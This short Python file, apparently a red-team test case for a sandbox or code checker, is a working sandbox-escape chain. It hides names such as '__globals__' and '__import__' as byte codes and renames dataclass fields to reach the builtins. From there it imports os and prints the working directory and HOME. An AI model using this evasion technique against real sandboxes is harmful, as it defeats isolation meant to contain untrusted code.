# family: red team, round 34 (field_makers / dynamic_names: setattr(f, k.name, v) renames a Field; full chain)
from dataclasses import dataclass, fields


@dataclass
class Key:
    name: str = "x"


@dataclass
class Rec:
    value: str = "x"


def text(codes):
    return bytes(codes).decode()


def rename(value):
    for k in fields(Key):
        for f in fields(Rec):
            setattr(f, k.name, value)


def helper():
    return 1


def read(target):
    for f in fields(Rec):
        return getattr(target, f.name)


rename(text([95, 95, 103, 108, 111, 98, 97, 108, 115, 95, 95]))  # Rec's field -> "__globals__"
g = read(helper)
b = g[text([95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95])]  # the builtins module
rename(text([95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))  # "__import__"
imp = read(b)
mod = imp(text([111, 115]))
print(mod)
print(mod.getcwd(), mod.environ.get(text([72, 79, 77, 69])))
